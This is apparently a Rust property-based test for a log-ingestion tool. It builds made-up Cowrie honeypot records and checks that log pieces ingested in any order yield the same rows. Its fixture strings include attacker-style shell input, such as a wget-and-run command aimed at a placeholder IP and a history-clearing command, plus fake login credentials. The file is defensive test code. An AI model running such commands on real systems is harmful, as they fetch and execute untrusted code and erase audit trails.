//! Any pieces of a log, in any order, overlapping and repeated, give the rows that the log gives.

use proptest::prelude::*;
use proptest::sample::Index;

use super::behaviour::{PASTED, TYPED, recording};
use super::*;

/// One row of a made-up log: who, which session, when, and what.
#[derive(Clone, Debug)]
struct Line {
    ip: u8,
    session: u8,
    sensor: u8,
    second: u32,
    what: u8,
    value: u8,
}

impl Line {
    fn text(&self) -> String {
        let Self { ip, session, sensor, second, what, value } = self;
        let value = usize::from(*value);
        let pick = |from: &[&str]| from[value % from.len()].to_owned();
        let credential = [
            "root\",\"password\":\"123456",
            "admin\",\"password\":\"",
            "\",\"password\":\"x",
            "p\\u0000\",\"password\":\"y\\u0000",
        ];
        let (event, more) = match what % 13 {
            0 => ("session.connect", pick(&[r#","protocol":"ssh""#, r#","protocol":"telnet""#, r#","dst_port":2222"#, r#","dst_port":"23""#, ""])),
            1 => ("client.version", format!(",\"version\":\"{}\"", pick(&["SSH-2.0-Go", "b'SSH-2.0-x'", "GET / HTTP/1.1"]))),
            2 => ("client.kex", format!(",\"hassh\":\"{}\"", pick(&["51cba57125523ce4b9db67714a90bf6e", "4e066189c3bbeec38c99b1855113733a"]))),
            3 => ("login.failed", format!(",\"username\":\"{}\"", pick(&credential))),
            4 => ("login.success", format!(",\"username\":\"{}\"", pick(&credential))),
            5 => ("login.failed", pick(&[r#","username":null,"password":"x""#, r#","username":"root","fingerprint":"d4:98:c4:f3:12:ef:3e:29:38:34:62:21:fd:99:ec:ef""#])),
            6..=8 => ("command.input", format!(",\"input\":\"{}\"", pick(&["uname -a", "w", " w ", "", "wget http://198.51.100.7/x; sh x", "\\u0000", "rm x; w; history -c"]))),
            9 => ("session.file_download", r#","shasum":"b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c","url":"http://198.51.100.7/x""#.to_owned()),
            10 => ("direct-tcpip.request", pick(&[r#","dst_ip":"198.51.100.25","dst_port":25"#, r#","dst_ip":"mail.example.org","dst_port":25,"protocol":"ssh""#])),
            11 => ("log.closed", format!(",\"ttylog\":\"log/tty/{}\"{}", pick(&[TYPED, PASTED, "missing"]), pick(&["", r#","duplicate":true"#]))),
            _ => ("session.closed", String::new()),
        };
        // Seconds run over a few days, so that sessions do too.
        let (day, second) = (28 + second / 86_400, second % 86_400);
        format!(
            "{{\"eventid\":\"cowrie.{event}\",\"session\":\"s{session}\",\"src_ip\":\"203.0.113.{ip}\",\"sensor\":\"pot-{sensor}\",\
             \"timestamp\":\"2022-05-{day:02}T{:02}:{:02}:{:02}.00000{}Z\"{more}}}\n",
            second / 3_600,
            second / 60 % 60,
            second % 60,
            value % 3,
        )
    }
}

fn line() -> impl Strategy<Value = Line> {
    (0..3_u8, 0..4_u8, 0..2_u8, prop_oneof![0..20_u32, 0..250_000_u32], any::<u8>(), any::<u8>())
        .prop_map(|(ip, session, sensor, second, what, value)| Line {
            ip,
            session,
            sensor,
            second,
            what,
            value,
        })
}

/// Pieces of a log: each says which lines it holds, in which order.
fn pieces() -> impl Strategy<Value = Vec<Vec<Index>>> {
    prop::collection::vec(prop::collection::vec(any::<Index>(), 0..30), 0..4)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, max_shrink_iters: 100, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_pieces_in_any_order_give_the_same_rows(
        log in prop::collection::vec(line(), 1..60),
        pieces in pieces(),
        rest in any::<prop::sample::Index>(),
        batch_bytes in prop_oneof![Just(1_usize), 200..2_000_usize, Just(1 << 24)],
        sessions in 1..5_usize,
    ) {
        let lines: Vec<String> = log.iter().map(Line::text).collect();
        let (at_once, place) = (Place::new(), Place::new());
        for name in [TYPED, PASTED] {
            at_once.put(&format!("tty/{name}"), recording(name));
        }
        let path = at_once.put("log.json", lines.concat());
        at_once.ingest(&[path]);

        let config = IngestConfig { batch_bytes, open_sessions_max: sessions, ..IngestConfig::default() };
        // Some pieces, then everything from some line on, then backwards what is missing, then all again.
        let mut files: Vec<String> =
            pieces.iter().map(|piece| piece.iter().map(|at| lines[at.index(lines.len())].as_str()).collect()).collect();
        files.push(lines[rest.index(lines.len())..].concat());
        files.push(lines.iter().rev().map(String::as_str).collect());
        let mut before = Vec::new();
        for (at, file) in files.iter().enumerate() {
            // Recordings are copied when half of it is read.
            if at == files.len() / 2 {
                for name in [TYPED, PASTED] {
                    place.put(&format!("{name}.gz"), gzip(&recording(name)));
                }
            }
            let path = place.put(&format!("{at}.json"), file);
            place.ingest_with(&config, &[path]);
            before = place.dump();
        }
        let expected = at_once.dump();
        let only = |a: &[String], b: &[String]| a.iter().filter(|row| !b.contains(row)).cloned().collect::<Vec<_>>();
        prop_assert!(before == expected, "{:#?} instead of {:#?}", only(&before, &expected), only(&expected, &before));
        let all: Vec<PathBuf> = (0..files.len()).map(|at| place.path(&format!("{at}.json"))).collect();
        let exact = place.exact_dump();
        place.ingest_with(&config, &all);
        prop_assert_eq!(place.exact_dump(), exact);
    }
}
